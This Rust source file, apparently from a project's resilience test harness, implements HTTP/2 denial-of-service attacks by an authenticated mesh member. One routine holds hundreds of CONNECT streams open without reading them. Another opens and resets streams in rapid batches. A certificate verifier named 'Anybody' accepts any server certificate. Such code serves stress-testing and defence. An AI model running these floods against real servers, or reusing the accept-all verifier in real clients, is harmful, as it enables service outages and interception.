//! Attacks by streams of tunnels, by a member of the mesh whose certificate everybody takes.

use std::io::{self, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::path::PathBuf;
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use rustls::client::Resumption;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::{verify_tls12_signature, verify_tls13_signature};
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName, UnixTime};
use rustls::{ClientConfig, ClientConnection, DigitallySignedStruct, SignatureScheme, StreamOwned, version};
use socket2::{Domain, Socket, Type};

use super::connections::{GLANCE, PAUSE};
use super::counts::Counts;
use super::frames::{self, Came};
use crate::path::attacked::accomplice::LOT;
use crate::path::handshake::provider;

/// What takes longer is given up.
const PATIENCE: Duration = Duration::from_secs(3);
/// How long an answer is waited for between two batches of resets.
const MOMENT: Duration = Duration::from_millis(1);
/// Streams that are asked for in one tunnel: as many as are usual.
const STREAMS: usize = 200;
/// Streams that are opened and reset at a time.
const BATCH: usize = 64;
/// How much the attacker's kernel takes of what nobody reads.
const BUFFER: usize = 16 * 1024;

/// Somebody with a certificate, and whom he attacks.
pub(super) struct Member {
    config: Arc<ClientConfig>,
    to: SocketAddr,
    authority: SocketAddr,
}

struct Tunnel {
    tls: StreamOwned<ClientConnection, TcpStream>,
    input: Vec<u8>,
    next: u32,
}

/// Opens a number of streams, each of which asks for much, and reads nothing once they are open.
pub(super) fn hold(member: &Member, wanted: usize, counts: &Counts) {
    let mut held: Vec<(Tunnel, u64)> = Vec::new();
    loop {
        let open: u64 = held.iter().map(|(_, streams)| streams).sum();
        let missing = wanted.saturating_sub(open as usize).min(STREAMS);
        if missing == 0 {
            thread::sleep(GLANCE);
        } else {
            let tunnel = Tunnel::enter(member).and_then(|tunnel| tunnel.fill(member.authority, missing));
            let streams = tunnel.as_ref().map_or(0, |(_, streams)| *streams);
            counts.opened(streams);
            counts.refused(missing as u64 - streams);
            match tunnel {
                Ok(tunnel) if streams > 0 => held.push(tunnel),
                _ => thread::sleep(PAUSE),
            }
        }
        held.retain(|(tunnel, streams)| {
            let is_there = tunnel.is_there();
            if !is_there {
                counts.closed(*streams);
                counts.refused(*streams);
            }
            is_there
        });
    }
}

/// Opens streams and resets them; a tunnel that is taken away is made again.
pub(super) fn reset(member: &Member, counts: &Counts) {
    loop {
        let reset = Tunnel::enter(member).and_then(|mut tunnel| tunnel.reset_all(member.authority, counts));
        if reset.is_err() {
            counts.refused(1);
            thread::sleep(PAUSE);
        }
    }
}

impl Member {
    /// Reads a certificate and a key.
    pub(super) fn load(identity: &[PathBuf; 2], to: SocketAddr, authority: SocketAddr) -> io::Result<Self> {
        let [certificate, key] = identity;
        let certificate = CertificateDer::from_pem_file(certificate).map_err(io::Error::other)?;
        let key = PrivateKeyDer::from_pem_file(key).map_err(io::Error::other)?;
        let mut config = ClientConfig::builder_with_provider(Arc::new(provider()))
            .with_protocol_versions(&[&version::TLS13])
            .map_err(io::Error::other)?
            .dangerous()
            .with_custom_certificate_verifier(Arc::new(Anybody))
            .with_client_auth_cert(vec![certificate], key)
            .map_err(io::Error::other)?;
        config.alpn_protocols = vec![b"h2".to_vec()];
        config.resumption = Resumption::disabled();
        Ok(Self { config: Arc::new(config), to, authority })
    }
}

impl Tunnel {
    fn enter(member: &Member) -> io::Result<Self> {
        let socket = Socket::new(Domain::for_address(member.to), Type::STREAM, None)?;
        socket.set_recv_buffer_size(BUFFER)?;
        socket.connect_timeout(&member.to.into(), PATIENCE)?;
        socket.set_read_timeout(Some(PATIENCE))?;
        socket.set_write_timeout(Some(PATIENCE))?;
        let name = ServerName::from(member.to.ip());
        let tls = ClientConnection::new(Arc::clone(&member.config), name).map_err(io::Error::other)?;
        let mut tunnel = Self { tls: StreamOwned::new(tls, socket.into()), input: Vec::new(), next: 1 };
        tunnel.send(&frames::preface())?;
        Ok(tunnel)
    }

    /// Opens streams, and tells how many of them were opened.
    fn fill(mut self, authority: SocketAddr, streams: usize) -> io::Result<(Self, u64)> {
        let mut asked = Vec::new();
        for _ in 0..streams {
            let stream = self.next();
            frames::connect(&mut asked, stream, authority);
            frames::data(&mut asked, stream, &[LOT]);
        }
        self.send(&asked)?;
        let (mut opened, mut answered) = (0, 0);
        while answered < streams {
            match self.come() {
                Ok(Came::Opened) => (opened, answered) = (opened + 1, answered + 1),
                Ok(Came::Refused) => answered += 1,
                Ok(Came::Other) => {}
                // What was opened before stays.
                Ok(Came::GoAway) | Err(_) => break,
            }
        }
        Ok((self, opened))
    }

    /// Opens and resets streams until the tunnel ends.
    fn reset_all(&mut self, authority: SocketAddr, counts: &Counts) -> io::Result<()> {
        self.tls.sock.set_read_timeout(Some(MOMENT))?;
        let mut ignored = [0; 16 * 1024];
        loop {
            let mut asked = Vec::new();
            for _ in 0..BATCH {
                let stream = self.next();
                frames::connect(&mut asked, stream, authority);
                frames::reset(&mut asked, stream);
            }
            self.send(&asked)?;
            counts.opened(BATCH as u64);
            counts.closed(BATCH as u64);
            match self.tls.read(&mut ignored) {
                Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
                Ok(_) => {}
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                Err(error) => return Err(error),
            }
        }
    }

    /// The number of a new stream.
    fn next(&mut self) -> u32 {
        self.next += 2;
        self.next - 2
    }

    fn send(&mut self, bytes: &[u8]) -> io::Result<()> {
        self.tls.write_all(bytes)?;
        self.tls.flush()
    }

    /// Waits for the next frame.
    fn come(&mut self) -> io::Result<Came> {
        loop {
            if let Some(came) = frames::take(&mut self.input) {
                return Ok(came);
            }
            let mut more = [0; 16 * 1024];
            match self.tls.read(&mut more)? {
                0 => return Err(io::ErrorKind::UnexpectedEof.into()),
                length => self.input.extend_from_slice(&more[..length]),
            }
        }
    }

    /// Whether it was not reset; an end in order stands behind what nobody reads.
    fn is_there(&self) -> bool {
        matches!(self.tls.sock.take_error(), Ok(None))
    }
}

/// Takes anybody for the one it wants: an attacker does not care whom he meets.
#[derive(Debug)]
struct Anybody;

impl ServerCertVerifier for Anybody {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        message: &[u8],
        certificate: &CertificateDer<'_>,
        signature: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        verify_tls12_signature(message, certificate, signature, &provider().signature_verification_algorithms)
    }

    fn verify_tls13_signature(
        &self,
        message: &[u8],
        certificate: &CertificateDer<'_>,
        signature: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        verify_tls13_signature(message, certificate, signature, &provider().signature_verification_algorithms)
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        provider().signature_verification_algorithms.supported_schemes()
    }
}
